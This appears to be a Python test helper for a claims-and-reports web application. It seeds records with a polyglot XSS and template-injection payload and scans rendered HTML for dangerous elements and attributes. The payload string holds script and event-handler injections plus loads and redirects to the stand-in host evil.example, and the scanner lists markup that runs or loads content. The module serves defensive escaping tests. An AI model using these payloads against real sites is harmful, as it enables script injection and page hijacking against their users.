"""Reports and claims whose every word tries to run, to load or to turn the page around; and what a page that shows them may not have."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from lxml import html
from msgspec.structs import replace as replaced

from allegata.ledger import Ledger
from allegata.mask import find_affected
from allegata.model import Claim, Document, Record, capture_id, from_json, to_json, with_id
from allegata.run.pipeline import Given, reports
from allegata.run.relating import relate

AT = "2024-05-02T10:00:00Z"
RAN = "allegataRan"
"""The global that every payload sets. A page on which it stands as text shows the payload."""
PAYLOAD = (
    f"<script>window.{RAN}=1</script><img src=x onerror=window.{RAN}=1><svg/onload=window.{RAN}=1>"
    f"\"onfocus=window.{RAN}=1 autofocus x=\"' onmouseover='window.{RAN}=1' "
    '" hx-get="https://evil.example/hx" hx-trigger="load" hx-on:load="alert(1)" style="position:fixed;inset:0" x="'
    f"</title></textarea></script></style><style>@import 'https://evil.example/css';*{{background:url(//evil.example/bg)}}</style>"
    f"<a href='javascript:window.{RAN}=1'>go</a><iframe src=//evil.example></iframe><base href=//evil.example/>"
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><form action=//evil.example><button>Check</button></form>"
    "{{ 7 * 191 }}{% raw %}${7*191} <!-- --> ]]> \u202egnp.exe\u2066 \u0007 " + "unbroken" * 40
)
"""One string that breaks out of text, of attributes in either quotes, of the elements whose end counts, and of a template."""
SHOWN = "&lt;script&gt;window."
"""How a page that shows the payload as words begins it."""
LINK = f"javascript:window.{RAN}=1//https://evil.example/"
"""An address that runs where it is made a link."""
FREE = {"outlet", "title", "name", "role", "body", "phrase", "admin1", "penalty", "stage", "unit", "byline", "text", "country", "timex", "profile"}  # fmt: skip
"""Fields of records that hold words."""
CLOSED = {
    "base",
    "embed",
    "frame",
    "iframe",
    "object",
    "style",
    "template",
    "video",
    "audio",
    "img",
    "input[type=image]",
}
"""Elements that no page of ours has."""


def hostile_claim(claim: Claim, document: Document) -> Claim:
    """Return *claim* of *document*, which begins with the payload, with the payload for every word it has."""

    def made(value: Any, key: str) -> Any:
        match value:
            case {"start": int(), "end": int(), "text": str()}:
                return {"start": 0, "end": len(PAYLOAD), "text": PAYLOAD}
            case dict():
                return {name: made(each, name) for name, each in value.items()}
            case list() | tuple():
                return [made(each, key) for each in value]
            case str() | None if key in FREE:
                return PAYLOAD
        return value

    shown = made(to_json(claim), "")
    shown["document"] |= {"id": document.id, "url": LINK}
    return with_id(from_json(Claim, shown))


def enter_hostile(ledger: Ledger, folder: Path, text: str) -> None:
    """Enter two hostile reports of *text* into *ledger*, whose claims are the same."""
    for number, day in enumerate(("2024-04-30", "2024-05-01")):
        file = folder / f"hostile-{number}.txt"
        file.write_text(f"{text}\n\nPrinted as number {number}.\n", "utf-8")
        (read,) = reports(str(file), Given(day, "Hostile Post"))
        assert read.document is not None
        assert read.capture is not None
        text_of_all = f"{PAYLOAD}\n{read.document.text}"
        bytes_of_all = text_of_all.encode()
        body = hashlib.sha256(bytes_of_all).hexdigest()
        capture = replaced(read.capture, url=LINK, id=capture_id(body, LINK, AT, PAYLOAD), origin=PAYLOAD, body=body)
        document = replaced(
            read.document, id=hashlib.sha256(file.name.encode()).hexdigest()[: len(read.document.id)], capture=capture.id, url=LINK,
            text=text_of_all, title=PAYLOAD, outlet=f"{PAYLOAD}{number}", byline=PAYLOAD,
        )  # fmt: skip
        claims = [hostile_claim(each, document) for each in read.claims]
        records: list[tuple[str, Record]] = [("capture", capture), ("document", document)]
        records += [("masks", find_affected(document, ())), *(("claim", each) for each in claims)]
        ledger.append(records, PAYLOAD, AT, {body: bytes_of_all})
    relate(ledger, "ana", AT)


def wrong_in(page: str) -> Iterator[str]:
    """Yield what *page*, HTML, may not have: elements, attributes and addresses that run, load or lead elsewhere unasked."""
    tree = html.document_fromstring(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", page))
    for element in tree.iter(html.etree.Element):
        if element.tag in CLOSED:
            yield f"<{element.tag}>"
        if element.tag == "script" and (element.text or not element.get("src", "").startswith("/static/")):
            yield "a script"
        if element.tag == "meta" and element.get("http-equiv"):
            yield "meta http-equiv"
        for name, value in element.attrib.items():
            yield from (f"{element.tag} {name}={value[:60]!r}" for _ in range(_is_wrong(element, name.lower(), value)))


def _is_wrong(element: Any, name: str, value: str) -> bool:
    if name.startswith(("on", "hx-on", "data-hx")) or name in ("style", "srcdoc", "autofocus", "background", "ping"):
        return True
    if name in ("src", "action", "formaction", "poster", "data") or name.startswith(("hx-get", "hx-post")):
        return not value.startswith("/") or value.startswith("//")
    if name in ("href", "{http://www.w3.org/1999/xlink}href", "xlink:href"):
        if element.tag == "a" and value.startswith(("http://", "https://")):
            return not {"noopener", "noreferrer", "nofollow"} <= set(element.get("rel", "").split())
        return not value.startswith(("/", "#", "?")) or value.startswith("//")
    return False
